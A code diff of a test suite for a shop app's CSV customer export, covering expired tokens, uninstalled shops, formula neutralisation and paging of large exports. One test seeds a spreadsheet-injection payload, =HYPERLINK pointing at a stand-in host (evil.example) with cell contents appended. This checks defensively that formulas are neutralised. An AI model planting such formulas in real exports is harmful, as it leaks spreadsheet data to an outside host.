@@ -148,7 +148,7 @@ describe("CSV export", () => {
   it("GIVEN a download link a minute old WHEN opened THEN it is refused as expired", async () => {
     const url = await linkFor(ALPHA);
     // The minute passes (the stored expiry is what the server checks).
-    await services().db.prepare(`UPDATE "DownloadToken" SET expiresAt = ?`).run(Date.now() - 1);
+    await services().db.prepare(`UPDATE "DownloadToken" SET expiresAt = ?`).run(new Date(Date.now() - 1));
 
     const out = await download(url);
 
@@ -169,7 +169,7 @@ describe("CSV export", () => {
     expect((await download("/app/customers/export?token=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA")).status).toBe(403);
     // And a shop that uninstalled after the link was made gets nothing.
     const late = await linkFor(BETA);
-    await services().db.prepare(`UPDATE "Shop" SET uninstalledAt = ? WHERE id = ?`).run(Date.now(), beta);
+    await services().db.prepare(`UPDATE "Shop" SET uninstalledAt = ? WHERE id = ?`).run(new Date(), beta);
     expect((await download(late)).status).toBe(403);
   });
 
@@ -199,21 +199,30 @@ describe("CSV export", () => {
 
   it("GIVEN customer data a spreadsheet would run WHEN exported THEN those cells are neutralised and negative money stays a number", async () => {
     const { db } = services();
-    await seedCustomer(db, alpha, { customerKey: "email:x@example.com", email: ' \u0000=HYPERLINK("http://evil.example/"&A1)', persona: "lost", monetaryMinor: -1250, r: 1, f: 1, m: 1 });
+    // A control character before the formula (NUL where the engine can store it; PostgreSQL's text cannot).
+    const control = db.dialect === "sqlite" ? "\u0000" : "\u0001";
+    await seedCustomer(db, alpha, { customerKey: "email:x@example.com", email: ` ${control}=HYPERLINK("http://evil.example/"&A1)`, persona: "lost", monetaryMinor: -1250, r: 1, f: 1, m: 1 });
     await seedCustomer(db, alpha, { customerKey: "email:y@example.com", email: "\t@SUM(1+1)", persona: "lost", r: 1, f: 1, m: 1 });
 
     const text = await (await download(await linkFor(ALPHA, "?q=example.com"))).response!.text();
 
-    expect(text).toContain(`email:x@example.com,,,"' \u0000=HYPERLINK(""http://evil.example/""&A1)",true,lost,Lost,`);
+    expect(text).toContain(`email:x@example.com,,,"' ${control}=HYPERLINK(""http://evil.example/""&A1)",true,lost,Lost,`);
     expect(text).toContain(",-12.50,USD,");
     expect(text).toContain("email:y@example.com,,,'\t@SUM(1+1),true,");
   });
 
   it("GIVEN a large shop WHEN its CSV is downloaded THEN the event loop keeps turning between pages", async () => {
     const { db } = services();
-    await db.transaction(async () => {
-      for (let i = 0; i < 20_000; i++) await seedCustomer(db, alpha, { customerKey: `gid://shopify/Customer/${100_000 + i}`, email: `c${i}@example.com`, persona: "lost" });
-    });
+    // One customer seeded, 19,999 more copied from it in one statement (row by row is slow on PostgreSQL).
+    await seedCustomer(db, alpha, { customerKey: "gid://shopify/Customer/100000", email: "c0@example.com", persona: "lost" });
+    const copied = "shopId, guest, recencyDays, frequency, monetaryMinor, firstOrderAt, lastOrderAt, r, f, m, persona, previousPersona, personaSince, scoredAt, writeStatus";
+    await db
+      .prepare(
+        `WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 19999)
+         INSERT INTO "Customer" (customerKey, email, ${copied})
+         SELECT 'gid://shopify/Customer/' || (100000 + i), 'c' || i || '@example.com', ${copied} FROM n, "Customer" WHERE shopId = ? AND customerKey = ?`,
+      )
+      .run(alpha, "gid://shopify/Customer/100000");
     const out = await download(await linkFor(ALPHA));
     // Counts turns of the event loop (one check phase each) while the body is read as fast as possible.
     let turns = 0;
@@ -231,5 +240,5 @@ describe("CSV export", () => {
     expect(lines).toHaveLength(1 + 6 + 20_000);
     // 11 pages of up to 2,000 rows, each after a turn of the loop (read in one go, the loop would not turn at all).
     expect(turns).toBeGreaterThanOrEqual(5);
-  });
+  }, 120_000); // 20,000 rows seeded and read: room on a loaded machine (a bound, not a speed goal)
 });
